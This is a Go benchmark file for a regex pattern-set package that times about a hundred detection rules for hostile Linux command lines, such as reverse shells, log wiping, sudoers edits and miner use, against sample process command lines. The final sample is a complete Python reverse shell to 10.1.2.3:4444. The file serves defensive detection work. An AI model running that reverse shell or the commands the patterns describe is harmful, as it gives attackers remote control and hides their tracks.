package regex

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// somePatterns are what rules for command lines of Linux ask, in many ways to write it.
var somePatterns = []string{
	`(?i)\bpython[23]?(?:\.\d+)?\b.*-c.*\bimport\s+pty\b.*pty\.spawn`,
	`\bbash\s+-i\s*>&\s*/dev/(?:tcp|udp)/\d{1,3}(?:\.\d{1,3}){3}/\d+`,
	`/dev/(?:tcp|udp)/[^/\s]+/\d{2,5}`,
	`(?i)\bn(?:et)?cat?\b.*\s-[a-z]*e\s+/bin/(?:ba|z|da|k)?sh`,
	`(?:curl|wget)\s.*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b`,
	`(?i)base64\s+(?:-d|--decode|-D)\b`,
	`echo\s+['"]?[A-Za-z0-9+/]{40,}={0,2}['"]?\s*\|\s*base64`,
	`\bperl\s+-e\s+.*socket`,
	`\bruby\s+-rsocket\s+-e`,
	`\bphp\s+-r\s+.*fsockopen`,
	`\bawk\s+'BEGIN\s*\{\s*s\s*=\s*"/inet/(?:tcp|udp)/`,
	`\blua\s+-e\s+.*os\.execute`,
	`\bsocat\b.*\bexec:['"]?(?:/usr)?/bin/(?:ba)?sh`,
	`(?i)\bchattr\s+[+-]i\b`,
	`chmod\s+(?:[0-7]?[4-7][0-7]{3}|[ugo]*\+[rwx]*s[rwx]*)\s`,
	`\bchmod\s+\+x\s+/(?:tmp|var/tmp|dev/shm)/\S+`,
	`^/(?:tmp|var/tmp|dev/shm)/\.?[A-Za-z0-9_.-]+$`,
	`(?:^|\s)/(?:tmp|dev/shm)/\.[^/\s]+/`,
	`\bhistory\s+-c\b|\bunset\s+HISTFILE\b|HISTSIZE=0`,
	`\brm\s+(?:-[rf]+\s+)+(?:/var/log|~/\.bash_history|/home/[^/]+/\.bash_history)`,
	`\bshred\s+(?:-[a-z]+\s+)*.*(?:\.log|_history)\b`,
	`>\s*/var/log/(?:auth|secure|messages|syslog|wtmp|btmp|lastlog)`,
	`\bcrontab\s+(?:-e|-l|-r|-)\b`,
	`/etc/cron\.(?:d|daily|hourly|weekly|monthly)/\S+`,
	`\bat\s+-f\s+\S+\s+now`,
	`\bsystemctl\s+(?:enable|start|daemon-reload)\b.*\.(?:service|timer)\b`,
	`/etc/systemd/system/[^/\s]+\.(?:service|timer|path)\b`,
	`\binsmod\s+\S+\.ko\b|\bmodprobe\s+(?:-r\s+)?\w+`,
	`\bLD_PRELOAD=\S+\.so`,
	`/etc/ld\.so\.preload\b`,
	`(?i)\b(?:useradd|adduser)\b.*(?:-o\b.*-u\s*0\b|-u\s*0\b.*-o\b)`,
	`\busermod\s+-a?G\s+(?:sudo|wheel|root|docker|adm)\b`,
	`echo\s+.*>>\s*/etc/(?:passwd|shadow|sudoers|sudoers\.d/\S+)`,
	`NOPASSWD:\s*ALL`,
	`\bvisudo\b|/etc/sudoers(?:\.d/\S+)?$`,
	`\bcat\s+/etc/(?:shadow|gshadow|master\.passwd)\b`,
	`\bunshadow\s|\bjohn\s+--(?:wordlist|format)`,
	`\bhashcat\s+(?:-m\s*\d+|--hash-type)`,
	`(?i)mimipenguin|lazagne|linpeas|linenum|les\.sh|pspy(?:32|64)?\b`,
	`\bfind\s+/\s.*-perm\s+(?:-|/)?(?:u=s|4000|6000|2000)`,
	`\bgetcap\s+-r\s+/`,
	`\bsetcap\s+cap_(?:setuid|sys_admin|dac_override|net_raw)\S*\s`,
	`\bnmap\s+.*(?:-s[STUVACN]|--script)\b`,
	`\bmasscan\s+.*(?:--rate|-p)\s*\d`,
	`\b(?:hydra|medusa|ncrack|patator)\s+.*(?:-l|-L|-U|-P)\s`,
	`\btcpdump\s+.*(?:-w\s+\S+|port\s+\d+)`,
	`\btshark\s+-i\s+\w+`,
	`\bssh\s+.*-[RLD]\s*(?:\S+:)?\d+`,
	`\bssh\s+.*-o\s*(?:StrictHostKeyChecking|UserKnownHostsFile)=(?:no|/dev/null)`,
	`\bsshpass\s+-[pef]`,
	`\.ssh/(?:authorized_keys2?|id_(?:rsa|dsa|ecdsa|ed25519))\b`,
	`\bssh-keygen\s+.*-D\s+\S+\.so`,
	`\bscp\s+.*(?:/etc/(?:passwd|shadow)|\.pem|\.key)\b`,
	`\brsync\s+.*-e\s+['"]?(?:ba)?sh`,
	`\b(?:iptables|nft)\s+.*(?:-F|--flush|flush\s+ruleset)\b`,
	`\bufw\s+disable\b`,
	`\bsetenforce\s+0\b|SELINUX=(?:disabled|permissive)`,
	`\b(?:systemctl|service)\s+(?:stop|disable|mask)\s+(?:auditd|rsyslog|syslog|apparmor|falcon-sensor|wazuh-agent)`,
	`\bauditctl\s+(?:-D|-e\s*0|-d\s)`,
	`\bkill(?:all)?\s+(?:-9\s+)?(?:auditd|rsyslogd|osqueryd|falco)\b`,
	`\bdd\s+if=/dev/(?:zero|u?random)\s+of=/dev/[sv]d[a-z]\d?`,
	`\bmkfs(?:\.\w+)?\s+.*/dev/`,
	`\bdocker\s+run\b.*(?:--privileged|-v\s+/:/|--pid[= ]host)`,
	`\bnsenter\s+.*(?:-t|--target)\s*1\b`,
	`\bkubectl\s+(?:exec|cp|port-forward|get\s+secrets?)\b`,
	`/var/run/docker\.sock\b|/run/containerd/containerd\.sock`,
	`\bunshare\s+-[a-zA-Z]*[Ur][a-zA-Z]*\b`,
	`\bmount\s+.*(?:bind|remount,rw|/proc|cgroup)`,
	`\brelease_agent\b|/sys/fs/cgroup/\S*notify_on_release`,
	`\bpkexec\s+--user\s+\S+`,
	`\bsudo\s+-u#-?\d+\b`,
	`\bsudoedit\s+-s\s+.*\\$`,
	`\bgdb\s+.*(?:-p|--pid)\s*\d+|\bgcore\s+\d+`,
	`\bstrace\s+.*-p\s*\d+`,
	`/proc/\d+/(?:mem|maps|environ)\b`,
	`\bxxd\s+-r\b.*\|\s*(?:ba)?sh`,
	`\bprintf\s+['"]?(?:\\x[0-9a-f]{2}){8,}`,
	`\$\(\s*(?:curl|wget|echo)\s[^)]*\)`,
	`\beval\s+["'$(].*(?:base64|gunzip|xxd)`,
	`\bopenssl\s+(?:s_client|enc)\s+.*-(?:connect|k|pass)\s`,
	`\b(?:telnet|nc|ncat)\s+\d{1,3}(?:\.\d{1,3}){3}\s+\d{2,5}\b`,
	`https?://\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?/\S+\.(?:sh|py|pl|elf|bin)\b`,
	`https?://(?:pastebin\.com|transfer\.sh|ngrok\.io|raw\.githubusercontent\.com)/\S+`,
	`\.onion(?:[:/]|\b)`,
	`\b(?:xmrig|minerd|cpuminer|kinsing|kdevtmpfsi)\b`,
	`stratum\+(?:tcp|ssl)://[^\s:]+:\d+`,
	`(?i)--donate-level[= ]\d+|--coin[= ]monero`,
	`\b(?:tar|zip|7z|gzip)\s+.*(?:/home/|/etc/|\.ssh)\S*`,
	`\b(?:aws|gcloud|az)\s+.*(?:get-caller-identity|print-access-token|assume-role)`,
	`169\.254\.169\.254/(?:latest/meta-data|metadata/instance|computeMetadata)`,
	`\.aws/credentials\b|\.kube/config\b|\.docker/config\.json\b`,
	`\b(?:who|w|last|lastlog|id|uname\s+-a|hostnamectl)\s*$`,
	`\bxhost\s+\+|\bxwd\s+-root\b|\bimport\s+-window\s+root`,
	`\bscreen\s+-(?:dmS|x)\b|\btmux\s+-S\s`,
	`\b(?:gcc|cc|clang|g\+\+)\s+.*-o\s+/(?:tmp|dev/shm)/\S+`,
	`\bmemfd_create\b|/memfd:\S*`,
	`(?i)\b(?:msfvenom|msfconsole|meterpreter|sliver-client|cobaltstrike)\b`,
	`\bproxychains4?\s|\bchisel\s+(?:client|server)\b`,
	`\bscript\s+-q\s+(?:-c\s+\S+\s+)?/dev/null\b`,
	`\bstty\s+raw\s+-echo\b`,
}

// manyPatterns returns n patterns: those, and what one asks of each of many programs. One in 60 has no literal.
func manyPatterns(n int) []string {
	all := slices.Clone(somePatterns)
	free := []string{`^\S{100,}$`, `\b\d{1,3}(?:\.\d{1,3}){3}\b`, `[^/]{120,}$`, `^[a-z]{1,2}$`, `(?:[A-Za-z0-9+/]{4}){30,}`}
	tools := strings.Fields(`apt ash bpftrace busybox capsh cpan cpio dash dmsetup ed emacs env expect flock ftp gawk git ` +
		`gimp ionice ip jjs journalctl jrunscript ksh ldconfig less logsave make man mawk more mysql nano nice node nohup`)
	shapes := []string{`(?:^|/)%s\s+.*(?:-e|-c|--eval)\s`, `\bsudo\s+(?:-\w+\s+)*(?:/usr)?/bin/%s\b`, `\b%s\b.*[;|&]\s*/bin/(?:ba)?sh`,
		`(?i)\b%s\s+[^|]*/etc/(?:passwd|shadow)`, `\b%s(?:\d+)?\s+--?\w+=\S*\.\./`}
	for i := 0; len(all) < n; i++ {
		if i%60 == 59 {
			all = append(all, free[i/60%len(free)])
			continue
		}
		all = append(all, fmt.Sprintf(shapes[i/len(tools)%len(shapes)], tools[i%len(tools)]))
	}
	return all[:n]
}

// commandLines have about 200 bytes each. The last is one that rules want.
var commandLines = []string{
	`/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xmx2g -XX:+UseG1GC -Dfile.encoding=UTF-8 -cp /opt/app/lib/server.jar:/opt/app/lib/util.jar com.example.server.Main --config /etc/app/server.yaml --port 8443 -v`,
	`/usr/sbin/sshd -D -o AuthorizedKeysCommand=/usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f -o AuthorizedKeysCommandUser=ec2-instance-connect -o PermitRootLogin=no -o MaxSessions=10 -p 22`,
	`/usr/bin/ld -plugin /usr/libexec/gcc/x86_64-linux-gnu/13/liblto_plugin.so -plugin-opt=-fresolution=/tmp/ccXa92.res --build-id --eh-frame-hdr -m elf_x86_64 -dynamic-linker /lib64/ld-linux-x86-64.so.2 main.o`,
	`/usr/bin/rsync --recursive --links --perms --times --compress --delete --exclude .git --exclude node_modules /srv/www/releases/2024-05-01/ deploy@web-01.internal.example.com:/srv/www/current/ --bwlimit=5000`,
	`/usr/bin/find /var/lib/postgresql/15/main/pg_wal -maxdepth 1 -type f -name 0000000100000000* -mmin +60 -printf %T@ %s %p\n -exec /usr/local/bin/wal-archive --bucket backups --prefix pg15 {} +  --quiet`,
	`/usr/bin/python3 -c import os,socket,subprocess;s=socket.socket();s.connect(("10.1.2.3",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];import pty; pty.spawn("/bin/bash") # keepalive 1 retries 3 timeout 20`,
}

// BenchmarkSet asks 100 and 300 patterns about command lines: as a set, one by one, and with package regexp, also behind
// the same literals. One operation is one command line.
func BenchmarkSet(b *testing.B) {
	for _, n := range []int{100, 300} {
		exprs := manyPatterns(n)
		all := compileAll(b, exprs)
		var std []*regexp.Regexp
		for _, e := range exprs {
			std = append(std, regexp.MustCompile(e))
		}
		var sc Scratch
		var results []result
		set := newPatternSet(all)
		each := func(name string, ask func(line string)) {
			b.Run(fmt.Sprintf("%s/%d", name, n), func(b *testing.B) {
				b.ReportAllocs()
				for i := 0; b.Loop(); i++ {
					ask(commandLines[i%len(commandLines)])
				}
			})
		}
		each("set", func(line string) { results = set.match(results[:0], line, &sc) })
		each("single", func(line string) {
			for _, re := range all {
				re.Match(line, &sc)
			}
		})
		each("std", func(line string) {
			for _, re := range std {
				re.MatchString(line)
			}
		})
		each("stdBehindLiterals", func(line string) {
			set.found = set.literals.Find(set.found[:0], line)
			for _, i := range set.always {
				std[i].MatchString(line)
			}
			last := int32(-1)
			for _, literal := range set.found {
				if i := set.owners[literal]; i != last {
					std[i].MatchString(line)
					last = i
				}
			}
		})
	}
}

// BenchmarkCompile compiles all patterns.
func BenchmarkCompile(b *testing.B) {
	exprs := manyPatterns(300)
	b.ReportAllocs()
	for b.Loop() {
		newPatternSet(compileAll(b, exprs))
	}
}
